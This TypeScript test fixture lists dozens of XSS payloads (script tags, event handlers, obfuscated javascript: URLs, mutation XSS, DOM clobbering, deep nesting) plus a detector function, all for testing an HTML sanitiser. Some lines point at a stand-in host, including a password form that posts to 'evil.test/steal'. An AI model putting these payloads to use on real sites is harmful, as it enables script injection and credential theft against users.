// Hostile article markup, by family. Every payload that could run calls window.__xss(name),
// so a test learns which vector got through. Shared by the jsdom tests of SafeHtml
// (src/components/safe-html.test.tsx) and the browser suite (tests/e2e/security.e2e.ts).

export type VectorFamily =
  | 'script'
  | 'event-handler'
  | 'script-url'
  | 'frame'
  | 'form'
  | 'meta-base-link'
  | 'css'
  | 'mutation'
  | 'clobbering'
  | 'raw-text'
  | 'deep-nesting'

export interface XssVector {
  name: string
  family: VectorFamily
  html: string
}

const v = (family: VectorFamily, name: string, html: string): XssVector => ({ family, name, html })

export const XSS_VECTORS: readonly XssVector[] = [
  // <script> in its many spellings
  v('script', 'script-tag', `<script>__xss('script-tag')</script>`),
  v('script', 'script-src', `<SCRIPT SRC="https://evil.test/x.js"></SCRIPT><script src="/assets/x.js"></script>`),
  v('script', 'script-split', `<scr<script>ipt>__xss('script-split')</scr</script>ipt>`),
  v('script', 'script-module', `<script type="module">__xss('script-module')</script>`),
  v('script', 'script-cdata', `<p>a</p><script>/*<![CDATA[*/__xss('script-cdata')/*]]>*/</script>`),

  // inline event handlers
  v('event-handler', 'img-onerror', `<img src="https://img.test/a.jpg" alt="a" onerror="__xss('img-onerror')">`),
  v('event-handler', 'img-onerror-unquoted', `<img src=x:x onerror=__xss('img-onerror-unquoted')>`),
  v('event-handler', 'handler-mixed-case', `<IMG SRC="https://img.test/b.jpg" OnErRoR="__xss('handler-mixed-case')">`),
  v('event-handler', 'p-onmouseover', `<p onmouseover="__xss('p-onmouseover')" onclick="__xss('p-onclick')">悬停</p>`),
  v('event-handler', 'a-onclick', `<a href="https://a.test/" onclick="__xss('a-onclick')" onfocus="__xss('a-onfocus')" autofocus>链接</a>`),
  v('event-handler', 'body-onload', `<body onload="__xss('body-onload')"><p>正文</p></body>`),
  v('event-handler', 'details-ontoggle', `<details open ontoggle="__xss('details-ontoggle')"><summary>x</summary></details>`),
  v('event-handler', 'input-autofocus', `<input autofocus onfocus="__xss('input-autofocus')">`),
  v('event-handler', 'video-source-onerror', `<video><source src="x" onerror="__xss('video-source-onerror')"></video>`),
  v('event-handler', 'marquee-onstart', `<marquee onstart="__xss('marquee-onstart')">x</marquee>`),

  // script-capable URLs: javascript:, data:, vbscript:, obfuscated
  v('script-url', 'js-href', `<a href="javascript:__xss('js-href')">点我</a>`),
  v('script-url', 'js-mixed-case', `<a href="JaVaScRiPt:__xss('js-mixed-case')">点我</a>`),
  v('script-url', 'js-decimal-entities', `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss('js-decimal-entities')">点我</a>`),
  v('script-url', 'js-hex-entities', `<a href="&#x6A;avascript&colon;__xss('js-hex-entities')">点我</a>`),
  v('script-url', 'js-tab', `<a href="java&#x09;script:__xss('js-tab')">点我</a>`),
  v('script-url', 'js-newline', `<a href="java\nscript:__xss('js-newline')">点我</a>`),
  v('script-url', 'js-leading-control', `<a href="&#x01;&#x20;javascript:__xss('js-leading-control')">点我</a>`),
  v('script-url', 'js-nul', `<a href="java\u0000script:__xss('js-nul')">点我</a>`),
  v('script-url', 'data-html', `<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcygnZGF0YS1odG1sJyk8L3NjcmlwdD4=">点我</a>`),
  v('script-url', 'data-svg-img', `<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='__xss(1)'/&gt;" alt="svg">`),
  v('script-url', 'vbscript', `<a href="vbscript:msgbox(1)">点我</a>`),
  v('script-url', 'js-cite', `<blockquote cite="javascript:__xss('js-cite')">引文</blockquote><q cite="data:text/html,x">q</q>`),

  // frames, plugins
  v('frame', 'iframe-srcdoc', `<iframe srcdoc="&lt;script&gt;parent.__xss('iframe-srcdoc')&lt;/script&gt;"></iframe>`),
  v('frame', 'iframe-js-src', `<iframe src="javascript:parent.__xss('iframe-js-src')"></iframe>`),
  v('frame', 'object-data', `<object data="data:text/html,&lt;script&gt;parent.__xss('object-data')&lt;/script&gt;"></object>`),
  v('frame', 'embed-src', `<embed src="javascript:__xss('embed-src')" type="text/html">`),
  v('frame', 'frameset', `<frameset onload="__xss('frameset')"><frame src="javascript:__xss('frame')"></frameset>`),

  // forms: phishing and script URLs in actions
  v('form', 'form-action', `<form action="javascript:__xss('form-action')"><input type="submit" value="提交"></form>`),
  v('form', 'button-formaction', `<button formaction="javascript:__xss('button-formaction')">提交</button>`),
  v('form', 'password-form', `<form action="https://evil.test/steal" method="post"><label>密码<input type="password" name="pw"></label><button>登录</button></form>`),
  v('form', 'isindex', `<isindex action="javascript:__xss('isindex')" type="submit" value="x">`),

  // document-level takeovers: meta refresh, base href, stylesheets
  v('meta-base-link', 'meta-refresh', `<meta http-equiv="refresh" content="0;url=javascript:__xss('meta-refresh')">`),
  v('meta-base-link', 'meta-refresh-away', `<meta http-equiv="refresh" content="0;url=https://evil.test/">`),
  v('meta-base-link', 'base-href', `<base href="https://evil.test/"><a href="page">相对链接</a>`),
  v('meta-base-link', 'link-stylesheet', `<link rel="stylesheet" href="https://evil.test/x.css"><link rel="import" href="https://evil.test/x.html">`),

  // CSS: overlays and legacy script in styles
  v('css', 'fixed-overlay', `<div style="position:fixed;inset:0;z-index:99999;background:#c00;color:#fff">登录已过期，请输入密码</div>`),
  v('css', 'style-tag', `<style>body{display:none} *{background:url("javascript:__xss('style-tag')")}</style>`),
  v('css', 'style-url', `<p style="background-image:url(javascript:__xss('style-url'))">x</p>`),
  v('css', 'class-overlay', `<div class="fixed inset-0 z-50 bg-red-600">用本站的样式类盖住页面</div>`),

  // mutation XSS: parser differentials through foreign content, noscript, template, style
  v('mutation', 'mxss-svg-style', `<svg></p><style><a id="</style><img src=1 onerror=__xss('mxss-svg-style')>">`),
  v('mutation', 'mxss-math-mglyph', `<math><mtext><table><mglyph><style><img src=x onerror=__xss('mxss-math-mglyph')>`),
  v('mutation', 'mxss-form-math', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss('mxss-form-math')>`),
  v('mutation', 'mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=__xss('mxss-noscript')>"></noscript>`),
  v('mutation', 'mxss-template', `<template><script>__xss('mxss-template')</script><img src=x onerror=__xss('mxss-template-img')></template>`),
  v('mutation', 'mxss-style-breakout', `<style><img src=x onerror=__xss('mxss-style-breakout')></style>`),
  v('mutation', 'svg-xlink', `<svg><a xlink:href="javascript:__xss('svg-xlink')"><text x="20" y="20">点</text></a></svg>`),
  v('mutation', 'svg-onload', `<svg onload="__xss('svg-onload')"><animate onbegin="__xss('svg-animate')" attributeName="x" dur="1s"/></svg>`),
  v('mutation', 'svg-foreignobject', `<svg><foreignObject><img src=x onerror=__xss('svg-foreignobject')></foreignObject></svg>`),
  v('mutation', 'math-href', `<math><maction actiontype="statusline" xlink:href="javascript:__xss('math-href')">x</maction></math>`),
  v('mutation', 'comment-breakout', `<p><!--</p><img src=x onerror=__xss('comment-breakout')>--></p><!-- --!><img src=x onerror=__xss('comment-bang')> -->`),

  // DOM clobbering: names and ids that shadow document or window properties
  v('clobbering', 'clobber-cookie', `<img name="cookie" alt="c"><form name="cookie"></form><a name="cookie">c</a>`),
  v('clobbering', 'clobber-location', `<a id="location" href="https://evil.test/">l</a><a id="location" name="href">l2</a>`),
  v('clobbering', 'clobber-getelementbyid', `<img name="getElementById"><a id="defaultView">d</a><img name="body">`),
  v('clobbering', 'clobber-xss-hook', `<a id="__xss">x</a><img name="__xss" alt="x">`),

  // raw-text elements: the HTML standard reads their content as text, never as markup
  v('raw-text', 'xmp', `<xmp><img src=x onerror=__xss('xmp')><b>粗</b></xmp>`),
  v('raw-text', 'noembed', `<noembed><img src=x onerror=__xss('noembed')></noembed>`),
  v('raw-text', 'noframes', `<noframes><img src=x onerror=__xss('noframes')></noframes>`),
  v('raw-text', 'plaintext', `<p>前</p><plaintext><img src=x onerror=__xss('plaintext')></p><script>__xss('plaintext-script')</script>`),
  v('raw-text', 'xmp-breakout', `<xmp></xmp ><img src=x onerror=__xss('xmp-breakout')></xmp>`),

  // depth and size: 60,000 nested elements once froze the page for 24 s, and 60 unclosed <b> rebuilt
  // by the parser in 3,000 paragraphs made 183,000 elements; a payload waits at the bottom
  v('deep-nesting', 'deep-spans', '<span lang="en">'.repeat(60_000) + `<img src=x onerror=__xss('deep-spans')>深处` + '</span>'.repeat(60_000)),
  v('deep-nesting', 'rebuilt-formatting', '<p>' + '<b title="i">'.repeat(60) + '首</p>' + '<p>段</p>'.repeat(3000) + `<p><img src=x onerror=__xss('rebuilt-formatting')>尾</p>`),
  v('deep-nesting', 'deep-unknown', '<font><center>'.repeat(20_000) + `<a href="javascript:__xss('deep-unknown')">深</a>` + '</center></font>'.repeat(20_000)),
]

/** Text fields (title, excerpt, outlet name) that must render as text. */
export const TEXT_VECTORS = {
  title: `标题<img src=x onerror=__xss('title')>`,
  excerpt: `摘要<script>__xss('excerpt')</script><b onmouseover=__xss('excerpt-b')>粗体</b>`,
  outletName: `媒体<svg onload=__xss('outlet')>`,
} as const

/** Elements that must never appear in the rendered page body. */
export const FORBIDDEN_ELEMENTS = ['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'form', 'input', 'button', 'style', 'svg', 'math', 'meta', 'base', 'link', 'template', 'noscript', 'xmp', 'noembed', 'noframes', 'plaintext']

const URL_ATTRIBUTES = ['href', 'src', 'cite', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'srcdoc', 'background']
// What the body may carry, beyond text: the html-policy allow-list plus the attributes the hooks add.
const ALLOWED_ATTRIBUTES = new Set(['lang', 'dir', 'title', 'href', 'target', 'rel', 'src', 'alt', 'width', 'height', 'loading', 'referrerpolicy', 'decoding', 'datetime', 'colspan', 'rowspan', 'scope', 'start', 'reversed', 'cite', 'data-missing', 'class', 'role', 'aria-label'])

/** Everything a hostile body could use to run script or take over the page. */
export function dangersIn(root: Element): string[] {
  const found: string[] = []
  for (const element of root.querySelectorAll('*')) {
    const tag = element.localName
    if (FORBIDDEN_ELEMENTS.includes(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`<${tag}>`)
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`${tag}[${name}]`)
      if (!ALLOWED_ATTRIBUTES.has(name)) found.push(`${tag}[${name}] not allowed`)
      if (name === 'class' && !/^safe-html-missing-image$/.test(value)) found.push(`${tag}.${value}`)
      if (URL_ATTRIBUTES.includes(name) && !/^(?:https?:|mailto:|#)/i.test(value)) found.push(`${tag}[${name}=${value}]`)
    }
  }
  return found
}
